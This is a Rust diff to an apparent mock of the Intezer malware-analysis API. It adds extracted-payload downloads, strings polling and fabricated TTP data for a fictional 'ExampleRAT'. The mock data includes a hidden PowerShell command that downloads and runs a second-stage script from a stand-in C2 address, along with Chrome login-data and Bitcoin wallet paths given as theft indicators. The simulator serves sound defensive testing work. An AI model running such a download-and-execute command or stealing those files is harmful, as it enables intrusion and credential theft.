@@ -14,6 +14,7 @@ use std::collections::HashMap;
 use std::fmt;
 use std::time::Duration;
 
+use bytes::Bytes;
 use serde_json::{json, Map, Value};
 use sha2::{Digest, Sha256};
 
@@ -62,8 +63,9 @@ impl Default for DefaultOptions {
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum DefaultVerdict {
     /// First byte % 4 == 0: the lookup finds a malicious analysis, family
-    /// `ExampleRAT`, with network IOCs, dynamic TTPs, a memory module and
-    /// malware code reuse.
+    /// `ExampleRAT`, with network IOCs, dynamic TTPs of every signature
+    /// category, malware code reuse, a memory module and a statically
+    /// extracted payload that can be downloaded.
     KnownMalicious,
     /// First byte % 4 == 1: the lookup finds a suspicious analysis, family
     /// `ExampleLoader`.
@@ -130,6 +132,9 @@ enum SubAnalysisKind {
     Root,
     /// A module unpacked in memory during dynamic execution (malicious only).
     MemoryModule,
+    /// A packed payload found in the file without running it (malicious
+    /// only). Its bytes can be downloaded.
+    StaticExtraction,
 }
 
 #[derive(Debug, Clone)]
@@ -137,6 +142,17 @@ struct SimSubAnalysis {
     id: String,
     kind: SubAnalysisKind,
     sha256: String,
+    /// Bytes `GET /files/{sha256}/download` serves once the analysis has
+    /// finished; `None` when the file cannot be downloaded.
+    file: Option<Bytes>,
+}
+
+/// A strings operation and the number of reads that still get 202.
+#[derive(Debug, Clone)]
+struct StringsOperation {
+    analysis_id: String,
+    sub_analysis_id: String,
+    reads_in_progress: u32,
 }
 
 #[derive(Debug, Clone)]
@@ -168,8 +184,11 @@ pub(crate) struct DefaultIntezer {
     analysis_count_by_sha256: HashMap<String, u32>,
     /// Uploaded files, which `GET /files/{sha256}/download` returns.
     uploads: HashMap<String, UploadedFile>,
-    /// Strings operations: operation id → (analysis id, sub-analysis id).
-    string_operations: HashMap<String, (String, String)>,
+    /// Files that finished analyses extracted, by SHA-256, which
+    /// `GET /files/{sha256}/download` also returns.
+    extracted_files: HashMap<String, Bytes>,
+    /// Strings operations by operation id.
+    string_operations: HashMap<String, StringsOperation>,
     /// Calls counted against the quota: hash lookups, accepted uploads and
     /// successful downloads, which the Intezer quota documentation lists.
     file_scans_used: u64,
@@ -186,6 +205,7 @@ impl DefaultIntezer {
             running_by_sha256: HashMap::new(),
             analysis_count_by_sha256: HashMap::new(),
             uploads: HashMap::new(),
+            extracted_files: HashMap::new(),
             string_operations: HashMap::new(),
             file_scans_used: 0,
         }
@@ -299,13 +319,30 @@ impl DefaultIntezer {
     /// Creates the analysis Intezer already has of a known file, on the
     /// first lookup and finished from the start.
     fn create_known_analysis(&mut self, sha256: &str, verdict: DefaultVerdict) -> String {
-        let mut analysis = self.new_analysis(sha256, verdict.outcome(), None);
-        analysis.finished = true;
+        let analysis = self.new_analysis(sha256, verdict.outcome(), None);
         let analysis_id = analysis.id.clone();
-        self.finished_by_sha256
-            .insert(sha256.to_string(), analysis_id.clone());
         self.analyses.insert(analysis_id.clone(), analysis);
+        self.finish(&analysis_id);
         analysis_id
+    }
+
+    /// Marks an analysis finished: the hash lookup returns it from now on,
+    /// a new upload of its file is accepted, and its extracted files can be
+    /// downloaded.
+    fn finish(&mut self, analysis_id: &str) {
+        let Some(analysis) = self.analyses.get_mut(analysis_id) else {
+            return;
+        };
+        analysis.finished = true;
+        self.running_by_sha256.remove(&analysis.sha256);
+        self.finished_by_sha256
+            .insert(analysis.sha256.clone(), analysis.id.clone());
+        for sub in &analysis.sub_analyses {
+            if let Some(bytes) = &sub.file {
+                self.extracted_files
+                    .insert(sub.sha256.clone(), bytes.clone());
+            }
+        }
     }
 
     fn new_analysis(
@@ -325,12 +362,21 @@ impl DefaultIntezer {
             id: uuid_like(&format!("sub-analysis:{id}:root")),
             kind: SubAnalysisKind::Root,
             sha256: sha256.to_string(),
+            file: None,
         }];
         if outcome == Outcome::Malicious {
             sub_analyses.push(SimSubAnalysis {
                 id: uuid_like(&format!("sub-analysis:{id}:memory-module")),
                 kind: SubAnalysisKind::MemoryModule,
                 sha256: hex::encode(Sha256::digest(format!("memory-module:{sha256}"))),
+                file: None,
+            });
+            let payload = extracted_payload(sha256);
+            sub_analyses.push(SimSubAnalysis {
+                id: uuid_like(&format!("sub-analysis:{id}:static-extraction")),
+                kind: SubAnalysisKind::StaticExtraction,
+                sha256: hex::encode(Sha256::digest(&payload)),
+                file: Some(payload),
             });
         }
 
@@ -408,28 +454,31 @@ impl DefaultIntezer {
                 analysis.in_progress_polls += 1;
                 return Reply::json(202, json!({ "status": "in_progress" }));
             }
-            analysis.finished = true;
-            self.running_by_sha256.remove(&analysis.sha256);
-            self.finished_by_sha256
-                .insert(analysis.sha256.clone(), analysis.id.clone());
+            self.finish(analysis_id);
         }
         Reply::json(
             200,
-            json!({ "status": "succeeded", "result": analysis_result(analysis) }),
+            json!({ "status": "succeeded", "result": analysis_result(&self.analyses[analysis_id]) }),
         )
     }
 
+    /// Serves an uploaded file or a file a finished analysis extracted.
     fn download(&mut self, hash: &str) -> Reply {
-        let Some(upload) = self.uploads.get(&hash.to_ascii_lowercase()) else {
-            return Reply::error(404, "File not found");
+        let sha256 = hash.to_ascii_lowercase();
+        let bytes = match self.uploads.get(&sha256) {
+            Some(upload) => upload.bytes.clone(),
+            None => match self.extracted_files.get(&sha256) {
+                Some(bytes) => bytes.clone(),
+                None => return Reply::error(404, "File not found"),
+            },
         };
         self.file_scans_used += 1;
         Reply {
             status: 200,
-            body: ReplyBody::Bytes(upload.bytes.clone()),
+            body: ReplyBody::Bytes(bytes),
             headers: vec![(
                 "Content-Disposition".to_string(),
-                format!("attachment; filename={}.sample", upload.sha256),
+                format!("attachment; filename={sha256}.sample"),
             )],
             delay: Duration::ZERO,
             route: None,
@@ -462,16 +511,21 @@ impl DefaultIntezer {
     }
 
     fn request_strings(&mut self, analysis_id: &str, sub_analysis_id: &str) -> Reply {
-        if let Err(unavailable) = self.sub_analysis(analysis_id, sub_analysis_id) {
-            return unavailable.reply();
-        }
+        let reads_in_progress = match self.sub_analysis(analysis_id, sub_analysis_id) {
+            Ok((analysis, sub)) => strings_reads_in_progress(analysis, sub),
+            Err(unavailable) => return unavailable.reply(),
+        };
         let sequence = self.string_operations.len();
         let operation_id = uuid_like(&format!(
             "strings:{analysis_id}:{sub_analysis_id}:{sequence}"
         ));
         self.string_operations.insert(
             operation_id.clone(),
-            (analysis_id.to_string(), sub_analysis_id.to_string()),
+            StringsOperation {
+                analysis_id: analysis_id.to_string(),
+                sub_analysis_id: sub_analysis_id.to_string(),
+                reads_in_progress,
+            },
         );
         Reply::json(
             201,
@@ -482,20 +536,23 @@ impl DefaultIntezer {
         )
     }
 
-    /// Returns the strings of an operation, which finishes at once, so its
-    /// first read succeeds.
+    /// Returns 202 while the operation still runs, then its strings. See
+    /// [`strings_reads_in_progress`] for how many reads get 202.
     fn strings_result(
-        &self,
+        &mut self,
         analysis_id: &str,
         sub_analysis_id: &str,
         operation_id: &str,
     ) -> Reply {
-        let matches_path = self
-            .string_operations
-            .get(operation_id)
-            .is_some_and(|(analysis, sub)| analysis == analysis_id && sub == sub_analysis_id);
-        if !matches_path {
+        let Some(operation) = self.string_operations.get_mut(operation_id) else {
             return Reply::error(404, "Operation was not found");
+        };
+        if operation.analysis_id != analysis_id || operation.sub_analysis_id != sub_analysis_id {
+            return Reply::error(404, "Operation was not found");
+        }
+        if operation.reads_in_progress > 0 {
+            operation.reads_in_progress -= 1;
+            return Reply::json(202, json!({ "status": "in_progress" }));
         }
         match self.sub_analysis(analysis_id, sub_analysis_id) {
             Ok((analysis, sub)) => strings(analysis, sub),
@@ -632,28 +689,15 @@ fn iocs(analysis: &SimAnalysis) -> Reply {
 
 /// Signatures from dynamic execution. Trusted files were not executed, so
 /// they get 404, which the API uses for "no dynamic TTPs".
+///
+/// The malicious set covers every signature category the service maps,
+/// one signature it does not map, one silent signature, and every kind of
+/// mark: `IP` (bare and with a port), `command`, `cmdline`, `file`,
+/// `regkey`, `url`, `domain`, a key the service does not tag, and a value
+/// that is a number.
 fn dynamic_ttps(analysis: &SimAnalysis) -> Reply {
     let signatures = match analysis.outcome {
-        Outcome::Malicious => json!([
-            {
-                "name": "InjectionInterProcess",
-                "description": "Injects code into another process",
-                "severity": 3,
-                "data": [{ "command": "C:\\Windows\\System32\\svchost.exe -k netsvcs" }]
-            },
-            {
-                "name": "network_cnc_https_generic",
-                "description": "Connects to a command-and-control server over HTTPS",
-                "severity": 2,
-                "data": [{ "IP": c2_ip(&analysis.sha256) }]
-            },
-            {
-                "name": "persistence_autorun",
-                "description": "Installs itself to run at Windows start-up",
-                "severity": 2,
-                "data": [{ "regkey": "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ExampleRAT" }]
-            }
-        ]),
+        Outcome::Malicious => malicious_ttps(&analysis.sha256),
         Outcome::Suspicious => json!([
             {
                 "name": "recon_fingerprint",
@@ -667,6 +711,88 @@ fn dynamic_ttps(analysis: &SimAnalysis) -> Reply {
     Reply::json(200, json!({ "result": signatures, "status": "succeeded" }))
 }
 
+fn malicious_ttps(sha256: &str) -> Value {
+    let c2_ip = c2_ip(sha256);
+    let c2_domain = c2_domain(sha256);
+    let install_dir = "C:\\Users\\user\\AppData\\Roaming\\ExampleRAT";
+    json!([
+        {
+            "name": "InjectionInterProcess",
+            "description": "Injects code into another process",
+            "severity": 3,
+            "data": [
+                { "command": "C:\\Windows\\System32\\svchost.exe -k netsvcs" },
+                { "process_id": 1312 }
+            ]
+        },
+        {
+            "name": "network_cnc_https_generic",
+            "description": "Connects to a command-and-control server over HTTPS",
+            "severity": 2,
+            "data": [
+                { "IP": c2_ip },
+                { "IP": format!("{c2_ip}:443") },
+                { "domain": c2_domain },
+                { "url": format!("https://{c2_domain}/api/v1/beacon?id={}", &sha256[..8]) }
+            ]
+        },
+        {
+            "name": "persistence_autorun",
+            "description": "Installs itself to run at Windows start-up",
+            "severity": 2,
+            "data": [
+                { "regkey": "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ExampleRAT" },
+                { "file": format!("{install_dir}\\update.exe") }
+            ]
+        },
+        {
+            "name": "powershell_command_suspicious",
+            "description": "Runs a PowerShell command that downloads and runs code",
+            "severity": 3,
+            "data": [
+                {
+                    "cmdline": format!(
+                        "powershell.exe -NoProfile -WindowStyle Hidden -Command \"IEX (New-Object Net.WebClient).DownloadString('http://{c2_ip}/stage2.ps1')\""
+                    )
+                }
+            ]
+        },
+        {
+            "name": "infostealer_browser",
+            "description": "Reads the credential store of a web browser",
+            "severity": 2,
+            "data": [
+                { "file": "C:\\Users\\user\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" }
+            ]
+        },
+        {
+            "name": "infostealer_bitcoin",
+            "description": "Collects cryptocurrency wallet files",
+            "severity": 1,
+            "data": [
+                { "file": "C:\\Users\\user\\AppData\\Roaming\\Bitcoin\\wallet.dat" }
+            ]
+        },
+        {
+            "name": "enumerates_running_processes",
+            "description": "Enumerates the running processes",
+            "severity": 1,
+            "data": [
+                { "process": "explorer.exe" },
+                { "process": "MsMpEng.exe" }
+            ]
+        },
+        {
+            "name": "checks_debugger",
+            "description": "Checks whether a debugger is attached",
+            "severity": 1,
+            "data": [
+                { "api": "IsDebuggerPresent" }
+            ]
+        }
+    ])
+}
+
 fn sub_analyses(analysis: &SimAnalysis) -> Reply {
     let entries: Vec<Value> = analysis
         .sub_analyses
@@ -678,34 +804,53 @@ fn sub_analyses(analysis: &SimAnalysis) -> Reply {
                 "sha256": sub.sha256,
                 "file_type": analysis.file_type
             }),
-            SubAnalysisKind::MemoryModule => {
-                let sample_path = format!("C:\\Users\\user\\AppData\\Local\\Temp\\{}.exe", &analysis.sha256[..8]);
-                json!({
-                    "sub_analysis_id": sub.id,
-                    "source": "dynamic_unpacking",
-                    "sha256": sub.sha256,
-                    "file_type": "pe",
-                    "extraction_info": {
-                        "processes": [
-                            {
-                                "process_id": 1204,
-                                "parent_process_id": 880,
-                                "process_path": sample_path,
-                                "module_path": sample_path
-                            },
-                            {
-                                "process_id": 1312,
-                                "parent_process_id": 1204,
-                                "process_path": "C:\\Windows\\System32\\svchost.exe",
-                                "module_path": format!("C:\\Users\\user\\AppData\\Local\\Temp\\{}.dll", &sub.sha256[..8])
-                            }
-                        ]
-                    }
-                })
-            }
+            SubAnalysisKind::MemoryModule => json!({
+                "sub_analysis_id": sub.id,
+                "source": "dynamic_unpacking",
+                "sha256": sub.sha256,
+                "file_type": "pe",
+                "extraction_info": { "processes": memory_module_processes(analysis, sub) }
+            }),
+            SubAnalysisKind::StaticExtraction => json!({
+                "sub_analysis_id": sub.id,
+                "source": "static_extraction",
+                "sha256": sub.sha256,
+                "file_type": "pe"
+            }),
         })
         .collect();
     Reply::json(200, json!({ "sub_analyses": entries }))
+}
+
+/// Builds the process tree in which the memory module was found. The
+/// sample (pid 1204) started PowerShell (1460) and injected the module into
+/// svchost (1312), so only that process has a module path of its own.
+fn memory_module_processes(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Value {
+    let sample_path = format!(
+        "C:\\Users\\user\\AppData\\Local\\Temp\\{}.exe",
+        &analysis.sha256[..8]
+    );
+    let powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+    json!([
+        {
+            "process_id": 1204,
+            "parent_process_id": 880,
+            "process_path": sample_path,
+            "module_path": sample_path
+        },
+        {
+            "process_id": 1312,
+            "parent_process_id": 1204,
+            "process_path": "C:\\Windows\\System32\\svchost.exe",
+            "module_path": format!("C:\\Users\\user\\AppData\\Local\\Temp\\{}.dll", &sub.sha256[..8])
+        },
+        {
+            "process_id": 1460,
+            "parent_process_id": 1204,
+            "process_path": powershell,
+            "module_path": powershell
+        }
+    ])
 }
 
 fn code_reuse(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Reply {
@@ -724,6 +869,7 @@ fn code_reuse(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Reply {
             25,
         ),
         (_, SubAnalysisKind::MemoryModule) => (vec![("ExampleRAT", "malware", 7)], 45, 30),
+        (_, SubAnalysisKind::StaticExtraction) => (vec![("ExamplePacker", "packer", 38)], 60, 4),
         (Outcome::Suspicious, SubAnalysisKind::Root) => (
             vec![("ExampleLoader", "malware", 3), ("UPX", "packer", 6)],
             60,
@@ -760,7 +906,7 @@ fn metadata(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Reply {
     body.insert("sha256".into(), json!(sub.sha256));
     let file_type = match sub.kind {
         SubAnalysisKind::Root => analysis.file_type,
-        SubAnalysisKind::MemoryModule => "pe",
+        SubAnalysisKind::MemoryModule | SubAnalysisKind::StaticExtraction => "pe",
     };
     body.insert("file_type".into(), json!(file_type));
     match file_type {
@@ -780,33 +926,76 @@ fn metadata(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Reply {
             if let Some(file_name) = &analysis.file_name {
                 body.insert("original_filename".into(), json!(file_name));
             }
+            if analysis.outcome == Outcome::Malicious {
+                body.insert("product_name".into(), json!("Example Updater"));
+                body.insert(
+                    "indicators".into(),
+                    json!([
+                        { "name": "network_communication", "classification": "suspicious" },
+                        { "name": "high_entropy_section", "classification": "suspicious" },
+                        { "name": "unsigned_file", "classification": "neutral" }
+                    ]),
+                );
+            }
         }
         SubAnalysisKind::MemoryModule => {
             body.insert("size_in_bytes".into(), json!(20480));
+        }
+        SubAnalysisKind::StaticExtraction => {
+            let size = sub.file.as_ref().map_or(0, Bytes::len);
+            body.insert("size_in_bytes".into(), json!(size));
+            body.insert(
+                "indicators".into(),
+                json!([{ "name": "packed_file", "classification": "suspicious" }]),
+            );
         }
     }
     Reply::json(200, Value::Object(body))
 }
 
+/// Reads of a new strings operation that get 202 before the strings. The
+/// root of a malicious analysis takes one, so a demo runs the client's
+/// polling; every other operation finishes at once.
+fn strings_reads_in_progress(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> u32 {
+    match (analysis.outcome, sub.kind) {
+        (Outcome::Malicious, SubAnalysisKind::Root) => 1,
+        _ => 0,
+    }
+}
+
 fn strings(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Reply {
     let common = json!({ "string_value": "GetProcAddress", "software_type": "common", "tags": [] });
-    let entries = match analysis.outcome {
-        Outcome::Malicious => json!([
+    let mutex = json!({
+        "string_value": format!("ExampleRAT_mutex_{}", &sub.sha256[..4]),
+        "software_type": "malware",
+        "tags": ["mutex"],
+        "families": [family_reference("ExampleRAT")]
+    });
+    let c2_domain = json!({
+        "string_value": c2_domain(&analysis.sha256),
+        "software_type": "malware",
+        "tags": ["network"],
+        "families": [family_reference("ExampleRAT")]
+    });
+    let entries = match (analysis.outcome, sub.kind) {
+        (Outcome::Malicious, SubAnalysisKind::Root) => json!([
+            c2_domain,
+            mutex,
             {
-                "string_value": c2_domain(&analysis.sha256),
+                "string_value": "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                 "software_type": "malware",
-                "tags": ["network"],
-                "families": [family_reference("ExampleRAT")]
+                "tags": ["registry"]
             },
             {
-                "string_value": format!("ExampleRAT_mutex_{}", &sub.sha256[..4]),
-                "software_type": "malware",
-                "tags": ["mutex"],
-                "families": [family_reference("ExampleRAT")]
+                "string_value": "ExamplePacker stub v2",
+                "software_type": "packer",
+                "tags": [],
+                "families": [family_reference("ExamplePacker")]
             },
             common
         ]),
-        Outcome::Suspicious => json!([
+        (Outcome::Malicious, _) => json!([c2_domain, mutex, common]),
+        (Outcome::Suspicious, _) => json!([
             {
                 "string_value": "ExampleLoader stage two",
                 "software_type": "malware",
@@ -815,7 +1004,7 @@ fn strings(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Reply {
             },
             common
         ]),
-        Outcome::Trusted => json!([
+        (Outcome::Trusted, _) => json!([
             common,
             { "string_value": "KERNEL32.dll", "software_type": "common", "tags": [] }
         ]),
@@ -824,6 +1013,16 @@ fn strings(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Reply {
         200,
         json!({ "status": "succeeded", "result": { "strings": entries } }),
     )
+}
+
+/// Bytes of the payload the static extraction of a malicious file finds: a
+/// stand-in for a packed PE, `MZ` and one line naming the parent file. The
+/// bytes depend only on the parent's SHA-256, so the payload's SHA-256 is
+/// stable and a downloader can check it.
+fn extracted_payload(parent_sha256: &str) -> Bytes {
+    Bytes::from(format!(
+        "MZ intezer-dynamic simulator: packed payload extracted from {parent_sha256}\n"
+    ))
 }
 
 // === helpers ===
